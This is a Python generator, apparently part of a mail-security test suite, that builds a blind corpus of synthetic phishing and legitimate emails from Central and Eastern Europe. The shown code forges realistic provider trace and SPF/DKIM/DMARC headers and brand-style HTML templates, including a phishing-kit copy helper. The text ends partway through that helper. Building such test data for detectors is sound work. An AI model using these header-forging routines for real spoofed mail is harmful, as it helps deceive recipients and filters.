"""Blind set 48: mail of Central and Eastern Europe and the Russian-speaking world (Poland, Czechia,
Slovakia, Hungary, Romania, Bulgaria, Serbia, Croatia, Slovenia, the Baltic states, Ukraine, Kazakhstan,
Russia), 2024-2026, in the local languages and their usual charsets: 50 attacks (bank login, 3-D Secure and
callback lures, parcel fees, marketplace buyer scams, tax refunds, e-government identity, tolls, telecoms,
CEO and supplier fraud, a Microsoft 365 share kit, investment scams with fake news, sextortion, advance fee,
and invoice droppers in zip/iso/lnk/js/xll/docm/html smuggling, one inside a hijacked reply chain) and 25
legitimate look-alikes (the genuine notices of the same banks, carriers, marketplaces and authorities,
invoices with PDF/ISDOC/XML, newsletters, a mailing list and personal mail).
Run: cd /work/main && .venv/bin/python samples/tools/build_blind48_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import sys
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from pathlib import Path
from urllib.parse import quote

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files as F  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / "blind48_manifest.txt"
# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b48-legit-cz-george-prihlaseni": "clean",
    "b48-legit-mbank-wyciag-pdf": "clean",
    "b48-legit-pkobp-nowe-urzadzenie": "clean",
    "b48-legit-ro-digi-factura": "clean",
}
SEED = "rempart-blind48"

# ---------------------------------------------------------------- pseudo-random strings from the seed


def _digest(key: str, n: int) -> bytes:
    out = b""
    counter = 0
    while len(out) < n:
        out += hashlib.sha512(f"{SEED}|{key}|{counter}".encode()).digest()
        counter += 1
    return out[:n]


def hx(key: str, n: int = 16) -> str:
    return _digest(key, (n + 1) // 2).hex()[:n]


def HX(key: str, n: int = 16) -> str:
    return hx(key, n).upper()


def b64s(key: str, n: int) -> str:
    return base64.b64encode(_digest(key, n)).decode()[:n]


def an(key: str, n: int) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(alphabet[b % 62] for b in _digest(key, n))


def lo(key: str, n: int) -> str:
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(alphabet[b % 36] for b in _digest(key, n))


def num(key: str, low: int, high: int) -> int:
    return low + int.from_bytes(_digest(key, 8), "big") % (high - low + 1)


def uid(key: str) -> str:
    h = hx(key, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


# ---------------------------------------------------------------- dates

DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def T(value: str) -> datetime:
    return datetime.strptime(value, "%Y-%m-%d %H:%M:%S %z")


def rfc(dt: datetime, comment: str = "") -> str:
    off = dt.utcoffset()
    minutes = int(off.total_seconds() // 60)
    sign = "+" if minutes >= 0 else "-"
    minutes = abs(minutes)
    zone = f"{sign}{minutes // 60:02d}{minutes % 60:02d}"
    s = f"{DAYS[dt.weekday()]}, {dt.day:02d} {MONTHS[dt.month - 1]} {dt.year} {dt:%H:%M:%S} {zone}"
    return s + (f" ({comment})" if comment else "")


def _last_sunday(year: int, month: int) -> int:
    d = datetime(year, month + 1, 1) - timedelta(days=1) if month < 12 else datetime(year, 12, 31)
    while d.weekday() != 6:
        d -= timedelta(days=1)
    return d.day


def eu_local(dt: datetime, std: int) -> datetime:
    """``dt`` in a European zone of standard offset ``std`` hours (EU summer time rules)."""
    u = dt.astimezone(timezone.utc).replace(tzinfo=None)
    start = datetime(u.year, 3, _last_sunday(u.year, 3), 1)
    end = datetime(u.year, 10, _last_sunday(u.year, 10), 1)
    hours = std + (1 if start <= u < end else 0)
    return dt.astimezone(timezone(timedelta(hours=hours)))


def fixed_local(dt: datetime, hours: int) -> datetime:
    return dt.astimezone(timezone(timedelta(hours=hours)))


def pacific(dt: datetime) -> tuple[datetime, str]:
    u = dt.astimezone(timezone.utc).replace(tzinfo=None)
    march = datetime(u.year, 3, 8)
    while march.weekday() != 6:
        march += timedelta(days=1)
    nov = datetime(u.year, 11, 1)
    while nov.weekday() != 6:
        nov += timedelta(days=1)
    summer = march + timedelta(hours=10) <= u < nov + timedelta(hours=9)
    hours = -7 if summer else -8
    return dt.astimezone(timezone(timedelta(hours=hours))), ("PDT" if summer else "PST")


def utc(dt: datetime) -> datetime:
    return dt.astimezone(timezone.utc)


def later(dt: datetime, seconds: int) -> datetime:
    return dt + timedelta(seconds=seconds)


# ---------------------------------------------------------------- header encoding


def _q_bytes(data: bytes) -> str:
    out = []
    for byte in data:
        ch = chr(byte)
        if ch == " ":
            out.append("_")
        elif ch.isascii() and (ch.isalnum() or ch in "!*+-/"):
            out.append(ch)
        else:
            out.append(f"={byte:02X}")
    return "".join(out)


def ew(value: str, charset: str = "utf-8", mode: str = "B") -> str:
    """RFC 2047 encoded words (folded with newline-space) for a non-ASCII string; ASCII unchanged."""
    if all(ord(c) < 128 for c in value):
        return value
    prefix = f"=?{charset}?{mode}?"
    words: list[str] = []
    current = ""

    def enc(s: str) -> str:
        data = s.encode(charset)
        return base64.b64encode(data).decode() if mode == "B" else _q_bytes(data)

    for ch in value:
        candidate = current + ch
        if len(prefix) + len(enc(candidate)) + 2 > 75 and current:
            words.append(prefix + enc(current) + "?=")
            current = ch
        else:
            current = candidate
    if current:
        words.append(prefix + enc(current) + "?=")
    return "\n ".join(words)


def addr(name: str, email: str, charset: str = "utf-8", mode: str = "B") -> str:
    if not name:
        return email
    if all(ord(c) < 128 for c in name):
        if any(c in name for c in ',.;:@()<>[]"'):
            return f'"{name}" <{email}>'
        return f"{name} <{email}>"
    return f"{ew(name, charset, mode)} <{email}>"


# ---------------------------------------------------------------- authentication and trace headers


@dataclass
class Auth:
    """What the receiving server saw: the connecting host, the envelope, and the checks' results."""

    ip: str
    helo: str
    mailfrom: str
    hfrom: str
    rdns: str | None = None
    spf: str = "pass"  # pass, fail, softfail, neutral, none
    dkim: tuple = ()  # ((domain, selector, result), ...)
    dmarc: str = "pass"  # pass, fail, none
    policy: str = "none"  # the From domain's DMARC policy: reject, quarantine, none

    @property
    def envdomain(self) -> str:
        return self.mailfrom.rsplit("@", 1)[-1] if self.mailfrom else self.helo


def _fold(tokens: list[str], indent: str = "\t") -> str:
    return (";\n" + indent).join(tokens)


def _spf_google(a: Auth) -> str:
    d, m = a.envdomain, a.mailfrom
    return {
        "pass": f"(google.com: domain of {m} designates {a.ip} as permitted sender)",
        "softfail": f"(google.com: domain of transitioning {m} does not designate {a.ip} as permitted sender)",
        "fail": f"(google.com: domain of {m} does not designate {a.ip} as permitted sender)",
        "neutral": f"(google.com: {a.ip} is neither permitted nor denied by best guess record for domain of {m})",
        "none": f"(google.com: {d} does not designate permitted sender hosts)",
    }[a.spf]


def gmail(a: Auth, rcpt: str, sent: datetime, key: str) -> list[str]:
    t1, zone1 = pacific(later(sent, num(key + "d1", 1, 4)))
    t2, zone2 = pacific(later(sent, num(key + "d1", 1, 4) + 1))
    dk = []
    for d, s, r in a.dkim:
        dk.append(f"dkim={r} header.i=@{d} header.s={s} header.b={b64s(key + d + 'hb', 8)}")
    spf = f"spf={a.spf} {_spf_google(a)} smtp.mailfrom={a.mailfrom or a.helo}"
    res = dk + [spf]
    if a.dmarc != "none":
        p = a.policy.upper()
        dis = "NONE" if a.dmarc == "pass" else ("QUARANTINE" if p != "NONE" else "NONE")
        res.append(f"dmarc={a.dmarc} (p={p} sp={p} dis={dis}) header.from={a.hfrom}")
    ar = "mx.google.com;\n       " + ";\n       ".join(res)
    host = f"{a.rdns} ({a.rdns}. [{a.ip}])" if a.rdns else f"{a.helo} ([{a.ip}])"
    gid = f"{an(key + 'gid', 12)}.{num(key + 'gn', 100, 999)}.{t1:%Y}.{t1.month:02d}.{t1.day:02d}.{t1:%H}.{t1:%M}.{t1:%S}"
    spf_line = f"Received-SPF: {a.spf} {_spf_google(a)} client-ip={a.ip};"
    epoch = int(utc(t1).timestamp())
    return [
        f"Delivered-To: {rcpt}",
        f"Received: by 2002:a05:{hx(key + 'r1', 4)}:{hx(key + 'r2', 3)}:b0:{hx(key + 'r3', 3)}:{hx(key + 'r4', 4)} "
        f"with SMTP id {lo(key + 'sid', 3)}{num(key + 'sidn', 10, 99)}csp{num(key + 'sidm', 100000, 999999)}{lo(key + 'sidx', 3)};\n"
        f"        {rfc(t2, zone2)}",
        f"X-Google-Smtp-Source: AGHT+I{b64s(key + 'xgs', 80)}",
        f"X-Received: by 2002:a05:6000:{hx(key + 'x1', 3)}:b0:{hx(key + 'x2', 3)}:{hx(key + 'x3', 4)}:{hx(key + 'x4', 4)} "
        f"with SMTP id {lo(key + 'x5', 20)}.{num(key + 'x6', 10, 99)}.{epoch}{num(key + 'x7', 100, 999)};\n"
        f"        {rfc(t2, zone2)}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={epoch}; cv=none;\n        d=google.com; s=arc-20240605;\n"
        f"        b={b64s(key + 'arcs1', 70)}\n         {b64s(key + 'arcs2', 70)}\n         {b64s(key + 'arcs3', 70)}\n"
        f"         {b64s(key + 'arcs4', 70)}==",
        "ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n"
        "        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n"
        f"        bh={b64s(key + 'arcbh', 43)}=;\n        fh={b64s(key + 'arcfh', 43)}=;\n"
        f"        b={b64s(key + 'arcb1', 70)}\n         {b64s(key + 'arcb2', 70)}\n         {b64s(key + 'arcb3', 70)}\n"
        f"         {b64s(key + 'arcb4', 70)}==;\n        dara=google.com",
        "ARC-Authentication-Results: i=1; " + ar,
        f"Return-Path: <{a.mailfrom}>",
        f"Received: from {host}\n        by mx.google.com with ESMTPS id {gid}\n        for <{rcpt}>\n"
        f"        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {rfc(t1, zone1)}",
        spf_line,
        "Authentication-Results: " + ar,
    ]


_MS_DKIM = {"pass": "pass (signature was verified)", "fail": "fail (body hash did not verify)",
            "none": "none (message not signed)"}


def microsoft(a: Auth, rcpt: str, sent: datetime, key: str, region: str = "eurprd0", consumer: bool = False) -> list[str]:
    t = utc(later(sent, num(key + "ms", 2, 6)))
    n = num(key + "reg", 1, 9)
    reg = f"{region}{n}.prod.outlook.com"
    build = f"15.20.{num(key + 'b1', 8400, 8900)}.{num(key + 'b2', 10, 40):03d}"
    pr = f"{['AM', 'DB', 'PA', 'VI', 'AS', 'DU'][n % 6]}{num(key + 'pr', 1, 9)}PR0{n}MB{num(key + 'mb', 1000, 9999)}"
    ca = f"{['DU2P', 'AM6P', 'DB8P', 'VI1P', 'PR3P'][n % 5]}R0{n}CA0{num(key + 'ca', 100, 999)}"
    pepf = f"{['AMS0', 'AM3P', 'DB1P', 'DU6P', 'AM4P'][n % 5]}EPF000{num(key + 'pe', 10000, 99999)}"
    ip6 = lambda k: f"2603:10a6:{hx(key + k, 3)}:{hx(key + k + 'x', 2)}::{num(key + k + 'y', 10, 99)}"  # noqa: E731
    dkim_part = "dkim=none (message not signed) header.d=none"
    if a.dkim:
        d, _s, r = a.dkim[0]
        dkim_part = f"dkim={_MS_DKIM.get(r, r)} header.d={d}"
    action = {"pass": "none", "fail": "quarantine" if a.policy == "quarantine" else ("oreject" if a.policy == "reject" else "none"),
              "none": "none", "bestguesspass": "none"}[a.dmarc]
    if a.dmarc == "pass":
        comp = "pass reason=100"
    elif a.dmarc == "fail":
        comp = "fail reason=000" if a.policy != "none" else "fail reason=001"
    elif a.dmarc == "bestguesspass":
        comp = "pass reason=109"
    else:
        comp = "softpass reason=201" if a.spf == "pass" else "none reason=405"
    spf_env = a.envdomain
    spf_text = {"pass": f"(sender IP is {a.ip})", "fail": f"(sender IP is {a.ip})", "softfail": f"(sender IP is {a.ip})",
                "neutral": f"(sender IP is {a.ip})", "none": f"(sender IP is {a.ip})"}[a.spf]
    rspf = {"pass": f"Pass (protection.outlook.com: domain of {spf_env} designates {a.ip} as permitted sender)",
            "fail": f"Fail (protection.outlook.com: domain of {spf_env} does not designate {a.ip} as permitted sender)",
            "softfail": f"SoftFail (protection.outlook.com: domain of transitioning {spf_env} discourages use of {a.ip} as permitted sender)",
            "neutral": f"Neutral (protection.outlook.com: {a.ip} is neither permitted nor denied by domain of {spf_env})",
            "none": f"None (protection.outlook.com: {spf_env} does not designate permitted sender hosts)"}[a.spf]
    host = a.rdns or a.helo
    lines = [
        f"Received: from {pr}.{reg} ({ip6('p1')}) by {pr[:-4]}{num(key + 'mb2', 1000, 9999)}.{reg} with HTTPS; {rfc(t)}",
        f"Received: from {ca}.{reg} ({ip6('c1')}) by {pr}.{reg} ({ip6('p1')})\n with Microsoft SMTP Server (version=TLS1_2,\n"
        f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {rfc(t)}",
        f"Received: from {pepf}.{reg}\n ({ip6('e1')}) by {ca}.outlook.office365.com\n ({ip6('c2')}) with Microsoft SMTP Server (version=TLS1_3,\n"
        f" cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {rfc(t)}",
        f"Authentication-Results: spf={a.spf} {spf_text}\n smtp.mailfrom={spf_env}; {dkim_part};dmarc={a.dmarc}\n"
        f" action={action} header.from={a.hfrom};compauth={comp}",
        f"Received-SPF: {rspf}\n receiver=protection.outlook.com; client-ip={a.ip};\n helo={a.helo}; pr=C",
        f"Received: from {host} ({a.ip}) by\n {pepf}.mail.protection.outlook.com (10.167.{num(key + 'i1', 1, 254)}.{num(key + 'i2', 1, 254)}) "
        f"with Microsoft\n SMTP Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build}\n via Frontend Transport; {rfc(t)}",
    ]
    tail = [
        f"X-MS-Exchange-Organization-ExpirationStartTime: {t:%d %b %Y %H:%M:%S}.{num(key + 'ms3', 1000000, 9999999)}\n (UTC)",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {uid(key + 'nmid')}",
        "X-MS-Exchange-Organization-AuthSource:\n " + f"{pepf}.{reg}",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-PublicTrafficType: Email",
    ]
    if consumer:
        tail.append(f"X-Microsoft-Antispam-Mailbox-Delivery:\n\tucf:0;jmr:0;auth:0;dest:I;ENG:(910005)(944506478)(944626604)(920097)(930097)(3100021);")
    return lines + tail


def m365_internal(rcpt: str, sent: datetime, key: str, domain: str) -> list[str]:
    t = utc(later(sent, 1))
    n = num(key + "reg", 1, 9)
    reg = f"eurprd0{n}.prod.outlook.com"
    mb = f"{['AM', 'DB', 'PA', 'VI'][n % 4]}{num(key + 'pr', 1, 9)}PR0{n}MB{num(key + 'mb', 1000, 9999)}"
    build = f"15.20.{num(key + 'b1', 8400, 8900)}.{num(key + 'b2', 10, 40):03d}"
    return [
        f"Received: from {mb}.{reg} (2603:10a6:{hx(key + 'ip6b', 3)}:{hx(key + 'c', 2)}::{num(key + 'c6', 10, 99)}) by\n {mb}.{reg} with HTTPS; {rfc(t)}",
        f"Received: from {mb}.{reg} ([fe80::{hx(key + 'f1', 4)}:{hx(key + 'f2', 4)}:{hx(key + 'f3', 4)}:{hx(key + 'f4', 4)}]) by\n"
        f" {mb}.{reg}\n ([fe80::{hx(key + 'f1', 4)}:{hx(key + 'f2', 4)}:{hx(key + 'f3', 4)}:{hx(key + 'f4', 4)}%{num(key + 'pct', 3, 7)}]) with mapi id\n {build}; {rfc(t)}",
        "Authentication-Results: dkim=none (message not signed)\n header.d=none;dmarc=none action=none header.from=" + domain + ";",
        "X-MS-Exchange-Organization-AuthSource: " + f"{mb}.{reg}",
        "X-MS-Exchange-Organization-AuthAs: Internal",
        "X-MS-Exchange-Organization-AuthMechanism: 04",
        "X-MS-Has-Attach: yes",
        "X-MS-Exchange-Organization-SCL: -1",
        f"X-MS-TNEF-Correlator:",
    ]


LOCAL = {
    # provider: (authserv-id, mx host, MTA words, zone std offset, extra header maker)
    "wp": ("mx.wp.pl", "mx.wp.pl", "(WP-SMTPD)", 1),
    "o2": ("mx.o2.pl", "mx.o2.pl", "(WP-SMTPD)", 1),
    "interia": ("interia.pl", "mx.poczta.interia.pl", "(Postfix)", 1),
    "onet": ("mx.poczta.onet.pl", "mx.poczta.onet.pl", "(Onet-SMTPD)", 1),
    "seznam": ("mx2.seznam.cz", "mx2.seznam.cz", "(Seznam-Email-MX)", 1),
    "centrum": ("mx.centrum.cz", "mx.centrum.cz", "(Postfix)", 1),
    "freemail": ("freemail.hu", "fmx04.freemail.hu", "(Postfix)", 1),
    "abv": ("abv.bg", "mx.abv.bg", "(Postfix)", 2),
    "ukrnet": ("mx.ukr.net", "fsm1.ukr.net", "(KMail-SMTP)", 2),
    "mailru": ("mxs.mail.ru", "mxs.mail.ru", "(Mail.Ru SMTP)", 3),
    "inboxlv": ("inbox.lv", "mx1.inbox.lv", "(Postfix)", 2),
    "yandex": ("mx.yandex.ru", "mx.yandex.ru", "(yandex/Yandex)", 3),
}


def local(provider: str, a: Auth, rcpt: str, sent: datetime, key: str) -> list[str]:
    authserv, mx, words, std = LOCAL[provider]
    t = later(sent, num(key + "lt", 1, 9))
    t = fixed_local(t, std) if provider in ("mailru", "yandex") else eu_local(t, std)
    res = []
    if provider == "yandex":
        spf = (f"spf={a.spf} (mx.yandex.ru: domain of {a.mailfrom} designates {a.ip} as permitted sender, "
               f"rule=[ip4:{a.ip.rsplit('.', 1)[0]}.0/24]) smtp.mail={a.mailfrom}") if a.spf == "pass" else \
              f"spf={a.spf} (mx.yandex.ru: domain of {a.mailfrom} does not designate {a.ip} as permitted sender) smtp.mail={a.mailfrom}"
        res.append(spf)
        for d, s, r in a.dkim:
            res.append(f"dkim={r} header.i=@{d}")
        if a.dmarc != "none":
            res.append(f"dmarc={a.dmarc} header.from={a.hfrom}")
    else:
        res.append(f"spf={a.spf} smtp.mailfrom={a.mailfrom or a.helo}")
        for d, s, r in a.dkim:
            res.append(f"dkim={r} header.d={d} header.s={s} header.b={b64s(key + d, 8)}")
        if not a.dkim:
            res.append("dkim=none")
        res.append(f"dmarc={a.dmarc} header.from={a.hfrom}")
    host = f"{a.helo} ({a.rdns} [{a.ip}])" if a.rdns else f"{a.helo} (unknown [{a.ip}])"
    qid = HX(key + "qid", 10) if provider not in ("mailru",) else an(key + "qid", 10)
    lines = [
        f"Return-Path: <{a.mailfrom}>",
        f"Received: from {host}\n\tby {mx} {words} with ESMTPS id {qid}\n\tfor <{rcpt}>; {rfc(t)}",
        f"Authentication-Results: {authserv};\n\t" + ";\n\t".join(res),
    ]
    if provider in ("wp", "o2"):
        lines += [f"X-WP-MailID: {hx(key + 'wpid', 32)}", "X-WP-AV: skaner antywirusowy Poczty Wirtualnej Polski",
                  f"X-WP-SPAM: NO 0000000 [{an(key + 'wpsp', 4)}]"]
    elif provider == "mailru":
        lines += ["X-Mailru-Src: mx", "X-Mras: Ok"]
    elif provider == "yandex":
        lines += [f"X-Yandex-Fwd: 1", f"X-Yandex-Spam: 1"]
    elif provider == "seznam":
        pass
    elif provider == "freemail":
        lines += ["X-Original-To: " + rcpt]
    return lines


def postfix(server: str, a: Auth, rcpt: str, sent: datetime, key: str, std: int = 1) -> list[str]:
    """A self-hosted Postfix + Dovecot + rspamd mailbox."""
    t = eu_local(later(sent, num(key + "pt", 1, 8)), std) if std < 3 else fixed_local(later(sent, 3), std)
    t2 = later(t, 1)
    res = []
    for d, s, r in a.dkim:
        res.append(f"dkim={r} header.d={d} header.s={s} header.b={b64s(key + d, 8)}")
    verb = {"pass": "designates", "fail": "does not designate", "softfail": "does not designate",
            "neutral": "is neutral about", "none": "has no SPF policy for"}[a.spf]
    res.append(f"spf={a.spf} ({server}: domain of {a.mailfrom} {verb} {a.ip} as permitted sender) smtp.mailfrom={a.mailfrom}")
    if a.dmarc != "none":
        res.append(f"dmarc={a.dmarc} reason=\"\" header.from={a.hfrom} (policy={a.policy})"
                   if a.dmarc == "fail" else f"dmarc={a.dmarc} (policy={a.policy}) header.from={a.hfrom}")
    else:
        res.append(f"dmarc=none")
    host = f"{a.helo} ({a.rdns} [{a.ip}])" if a.rdns else f"{a.helo} (unknown [{a.ip}])"
    return [
        f"Return-Path: <{a.mailfrom}>",
        f"Delivered-To: {rcpt}",
        f"Received: from {server}\n\tby {server} with LMTP\n\tid {b64s(key + 'lmtp', 22).replace('/', 'x').replace('+', 'y')}\n"
        f"\t(envelope-from <{a.mailfrom}>)\n\tfor <{rcpt}>; {rfc(t2)}",
        f"Received: from {host}\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
        f"\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
        f"\t(No client certificate requested)\n\tby {server} (Postfix) with ESMTPS id 4{an(key + 'pq', 11)}\n"
        f"\tfor <{rcpt}>; {rfc(t)}",
        f"Authentication-Results: {server};\n\t" + ";\n\t".join(res),
        f"X-Rspamd-Queue-Id: 4{an(key + 'pq', 11)}",
        f"X-Rspamd-Server: {server.split('.')[0]}",
    ]


def receive(provider: str, a: Auth, rcpt: str, sent: datetime, key: str) -> list[str]:
    if provider == "gmail":
        return gmail(a, rcpt, sent, key)
    if provider == "m365":
        return microsoft(a, rcpt, sent, key)
    if provider == "outlook":
        return microsoft(a, rcpt, sent, key, region="eurprd0", consumer=True)
    if provider.startswith("postfix:"):
        _, server, std = provider.split(":")
        return postfix(server, a, rcpt, sent, key, int(std))
    return local(provider, a, rcpt, sent, key)


# ---------------------------------------------------------------- sender-side hops and signatures


def dkim_sig(d: str, s: str, key: str, h: str = "from:to:subject:date:message-id:mime-version:content-type",
             sent: datetime | None = None, a: str = "rsa-sha256", i: str = "") -> str:
    tpart = f" t={int(sent.timestamp())};" if sent else ""
    ipart = f" i={i};" if i else ""
    b = b64s(key + d + "sig", 342 if a == "rsa-sha256" else 86)
    if a == "ed25519-sha256":
        b = b64s(key + d + "sig", 86)
    chunks = [b[i:i + 70] for i in range(0, len(b), 70)]
    return (f"DKIM-Signature: v=1; a={a}; c=relaxed/relaxed; d={d};\n\ts={s};{tpart}{ipart}\n\th={h};\n"
            f"\tbh={b64s(key + d + 'bh', 43)}=;\n\tb=" + "\n\t ".join(chunks) + "==")


def hop(frm: str, ip: str, by: str, sent: datetime, key: str, rdns: str | None = None, via: str = "ESMTPS",
        mta: str = "(Postfix)", for_: str = "", offset: int = 0, idstyle: str = "postfix") -> str:
    t = later(sent, offset)
    qid = {"postfix": HX(key + by, 10), "exim": f"{an(key + by, 6)}-{an(key + by + '2', 6)}-{an(key + by + '3', 2)}",
           "long": f"4{an(key + by, 11)}"}[idstyle]
    f = f" for <{for_}>" if for_ else ""
    name = f"{rdns} [{ip}]" if rdns else f"unknown [{ip}]"
    return f"Received: from {frm} ({name})\n\tby {by} {mta} with {via} id {qid}{f};\n\t{rfc(t)}"


def gmail_send(sent: datetime, key: str) -> str:
    t, zone = pacific(sent)
    return (f"Received: by mail-{['wr1', 'ej1', 'lf1', 'wm1', 'ed1'][num(key, 0, 4)]}-f{num(key + 'f', 41, 72)}.google.com "
            f"with SMTP id {lo(key + 'id', 20)}.{num(key + 'n', 1, 9)}\n        for <{{rcpt}}>; {rfc(t, zone)}")


def gmail_sender_hops(key: str, sent: datetime) -> list[str]:
    """What a message sent from a Gmail account carries under the receiver's lines."""
    t, zone = pacific(sent)
    return [
        gmail_send(sent, key),
        dkim_sig("gmail.com", "20230601", key, h="to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to",
                 sent=sent),
        dkim_sig("1e100.net", "20230601", key + "x", h="x-gm-message-state:to:subject:message-id:date:from:mime-version:x-gm-gg:"
                 "x-google-dkim-signature", sent=sent).replace("DKIM-Signature:", "X-Google-DKIM-Signature:"),
        f"X-Gm-Message-State: AOJu0Y{b64s(key + 'gms', 60)}",
        f"X-Gm-Gg: ASbGnc{b64s(key + 'ggg', 100)}",
        f"X-Google-Smtp-Source: AGHT+I{b64s(key + 'gss', 60)}==",
        f"X-Received: by 2002:a05:6402:{hx(key + 'xr', 4)}:b0:{hx(key + 'xr2', 3)}:{hx(key + 'xr3', 4)}:{hx(key + 'xr4', 4)} with SMTP id "
        f"{lo(key + 'xr5', 20)}.{num(key + 'xr6', 10, 99)}.{int(sent.timestamp())}{num(key + 'xr7', 100, 999)};\n        {rfc(t, zone)}",
    ]


def gmail_sender_auth(user: str, key: str) -> Auth:
    n = num(key + "gip", 1, 250)
    letter = ["wr1", "ej1", "lf1", "wm1", "ed1"][num(key, 0, 4)]
    host = f"mail-{letter}-f{num(key + 'f', 41, 72)}.google.com"
    return Auth(ip=f"209.85.{num(key + 'g3', 128, 221)}.{n}", helo=host, rdns=host, mailfrom=user, hfrom="gmail.com",
                spf="pass", dkim=(("gmail.com", "20230601", "pass"),), dmarc="pass", policy="none")


# ---------------------------------------------------------------- body helpers


def qp(content: str, subtype: str = "plain", charset: str = "utf-8") -> Leaf:
    return text(content, subtype, "quoted-printable", charset)


def b64t(content: str, subtype: str = "plain", charset: str = "utf-8") -> Leaf:
    return text(content, subtype, "base64", charset)


def bit8(content: str, subtype: str = "plain", charset: str = "utf-8") -> Leaf:
    return text(content, subtype, "8bit", charset)


def alt(boundary: str, plain: Leaf, html: Leaf) -> Multi:
    return Multi("alternative", boundary, [plain, html])


def att(ctype: str, name: str, data: bytes, style: str = "2231", charset: str = "utf-8") -> Leaf:
    """An attachment; non-ASCII names in RFC 2231 (most clients) or RFC 2047 (Outlook, Gmail) form."""
    if all(ord(c) < 128 for c in name):
        return attachment(ctype, name, data)
    if style == "2047":
        enc = ew(name, charset).replace("\n ", "")
        return Leaf(ctype, data, "base64", f'; name="{enc}"', f'attachment; filename="{enc}"')
    pct = quote(name.encode("utf-8"), safe="")
    return Leaf(ctype, data, "base64", f"; name*=utf-8''{pct}", f"attachment; filename*=utf-8''{pct}")


def html_att(name: str, page: str) -> Leaf:
    return Leaf("text/html", page.encode("utf-8"), "base64", f'; charset="utf-8"; name="{name}"',
                f'attachment; filename="{name}"')


def inline_img(ctype: str, name: str, data: bytes, cid: str) -> Leaf:
    return attachment(ctype, name, data, inline=True, cid=cid)


def strip_html(html: str) -> str:
    import re
    import html as h

    s = re.sub(r"(?is)<(style|script|head).*?</\1>", "", html)
    s = re.sub(r'(?is)<a [^>]*href="([^"]+)"[^>]*>(.*?)</a>', r"\2 [\1]", s)
    s = re.sub(r"(?i)<br\s*/?>", "\n", s)
    s = re.sub(r"(?i)</(p|div|tr|h[1-6]|li|table)>", "\n", s)
    s = re.sub(r"<[^>]+>", "", s)
    s = h.unescape(s)
    lines = [" ".join(line.split()) for line in s.splitlines()]
    out: list[str] = []
    for line in lines:
        if line or (out and out[-1]):
            out.append(line)
    return "\n".join(out).strip() + "\n"


def esp_html(lang: str, title: str, brand: str, colour: str, paras: list[str], button: tuple[str, str] | None = None,
             footer: list[str] = (), preheader: str = "", logo: str = "", after: list[str] = ()) -> str:
    """A table-based notification as ESPs and banks' mailers render them."""
    logo_cell = (f'<img src="{logo}" alt="{brand}" width="140" style="display:block;border:0">' if logo else
                 f'<span style="font-size:22px;font-weight:bold;color:{colour}">{brand}</span>')
    body = "".join(f'<p style="margin:0 0 14px 0">{p}</p>\n' for p in paras)
    if button:
        body += (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="margin:18px 0"><tr>'
                 f'<td bgcolor="{colour}" style="border-radius:4px;padding:12px 26px">'
                 f'<a href="{button[1]}" style="color:#ffffff;text-decoration:none;font-weight:bold">{button[0]}</a>'
                 f'</td></tr></table>\n')
    body += "".join(f'<p style="margin:0 0 14px 0">{p}</p>\n' for p in after)
    foot = "".join(f'<p style="margin:0 0 8px 0">{f}</p>\n' for f in footer)
    pre = (f'<div style="display:none;max-height:0;overflow:hidden;mso-hide:all">{preheader}</div>\n' if preheader else "")
    return (f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1.0">\n<title>{title}</title>\n</head>\n'
            f'<body style="margin:0;padding:0;background:#f2f3f5">\n{pre}'
            f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f2f3f5"><tr><td align="center">\n'
            f'<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" '
            f'style="font-family:Arial,Helvetica,sans-serif;font-size:15px;line-height:22px;color:#222222">\n'
            f'<tr><td style="padding:24px 32px;border-bottom:3px solid {colour}">{logo_cell}</td></tr>\n'
            f'<tr><td style="padding:28px 32px">\n{body}</td></tr>\n'
            f'<tr><td style="padding:18px 32px;background:#f7f7f7;font-size:12px;line-height:17px;color:#777777">\n{foot}</td></tr>\n'
            f'</table>\n</td></tr></table>\n</body>\n</html>\n')


def kit_html(title: str, colour: str, brand: str, paras: list[str], button: tuple[str, str] | None = None,
             footer: str = "", charset: str = "utf-8") -> str:
    """A phishing kit's simpler copy of a brand notice."""
    body = "".join(f"<p>{p}</p>\n" for p in paras)
    if button:
        body += (f'<p style="text-align:center;margin:26px 0"><a href="{button[1]}" style="background:{colour};color:#fff;'
                 f'padding:12px 30px;border-radius:3px;text-decoration:none;font-weight:600">{button[0]}</a></p>\n')
